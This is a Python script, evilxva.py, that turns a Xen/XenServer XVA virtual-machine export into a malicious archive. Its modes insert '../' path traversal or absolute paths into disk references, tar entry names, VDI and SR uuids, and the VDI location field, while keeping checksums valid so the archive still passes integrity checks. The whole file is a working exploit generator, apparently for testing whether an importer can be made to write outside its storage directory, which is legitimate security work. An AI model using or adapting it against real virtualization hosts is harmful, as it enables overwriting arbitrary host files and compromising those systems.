#!/usr/bin/env python3
"""Rewrites an uncompressed XVA archive into a hostile one (stdlib only).

  evilxva.py IN OUT MODE [ARG]

MODE:
  ref-dotdot      the first disk's id Ref:N becomes Ref:../../<ARG>, in
                  ova.xml and in its entry names (Ref:../../x/00000000)
  ref-abs         the id becomes ARG (an absolute path), so that entries
                  are named ARG/00000000
  entry-dotdot    ova.xml kept; the disk's entries are named
                  Ref:N/../../../<ARG>/00000000
  uuid-dotdot     the VDI's and the SR's uuids (every occurrence) become
                  ../../<ARG> and ../../../<ARG>-sr
  location-abs    the VDI's location becomes ARG (an absolute path)

Checksums stay right: only names and ova.xml change.
"""

import io
import re
import sys
import tarfile
import xml.etree.ElementTree as ET


def members(path):
    out = []
    with tarfile.open(path, 'r:') as t:
        for m in t.getmembers():
            data = t.extractfile(m).read() if m.isfile() else b''
            out.append((m.name, data))
    return out


def write(path, entries):
    with tarfile.open(path, 'w:', format=tarfile.GNU_FORMAT) as t:
        for name, data in entries:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mode = 0o400
            t.addfile(ti, io.BytesIO(data))


def value_of(v):
    """The Python form of an XML-RPC <value> element (strings, structs,
    arrays; anything else as its text)."""
    kids = list(v)
    if not kids:
        return v.text or ''
    k = kids[0]
    if k.tag == 'struct':
        return {m.find('name').text: value_of(m.find('value'))
                for m in k.findall('member')}
    if k.tag == 'array':
        return [value_of(x) for x in k.find('data').findall('value')]
    return k.text or ''


def objects(xml):
    top = value_of(ET.fromstring(xml))
    return top.get('objects', [])


def main():
    src, dst, mode = sys.argv[1:4]
    arg = sys.argv[4] if len(sys.argv) > 4 else 'evil'
    entries = members(src)
    xml = dict(entries)['ova.xml'].decode()
    objs = objects(xml)
    vdis = [o for o in objs if o.get('class') == 'VDI']
    srs = [o for o in objs if o.get('class') == 'SR']
    disk_id = None
    for name, _ in entries:
        m = re.match(r'^(Ref:\d+)/\d{8}$', name)
        if m:
            disk_id = m.group(1)
            break
    if disk_id is None:
        print('no disk entries in %s' % src, file=sys.stderr)
        return 1
    out = []
    if mode in ('ref-dotdot', 'ref-abs'):
        new_id = 'Ref:../../' + arg if mode == 'ref-dotdot' else arg
        xml = xml.replace('>%s<' % disk_id, '>%s<' % new_id)
        for name, data in entries:
            if name == 'ova.xml':
                data = xml.encode()
            elif name.startswith(disk_id + '/'):
                name = new_id + name[len(disk_id):]
            out.append((name, data))
    elif mode == 'entry-dotdot':
        for name, data in entries:
            if name.startswith(disk_id + '/'):
                name = disk_id + '/../../../' + arg + name[len(disk_id):]
            out.append((name, data))
    elif mode == 'uuid-dotdot':
        for o in vdis:
            xml = xml.replace(o['snapshot']['uuid'], '../../' + arg)
        for o in srs:
            xml = xml.replace(o['snapshot']['uuid'], '../../../' + arg + '-sr')
        out = [(n, xml.encode() if n == 'ova.xml' else d) for n, d in entries]
    elif mode == 'location-abs':
        for o in vdis:
            loc = o['snapshot'].get('location', '')
            if loc:
                xml = xml.replace('<name>location</name><value>%s</value>'
                                  % loc,
                                  '<name>location</name><value>%s</value>'
                                  % arg)
        out = [(n, xml.encode() if n == 'ova.xml' else d) for n, d in entries]
    else:
        print(__doc__, file=sys.stderr)
        return 2
    write(dst, out)
    return 0


if __name__ == '__main__':
    sys.exit(main())
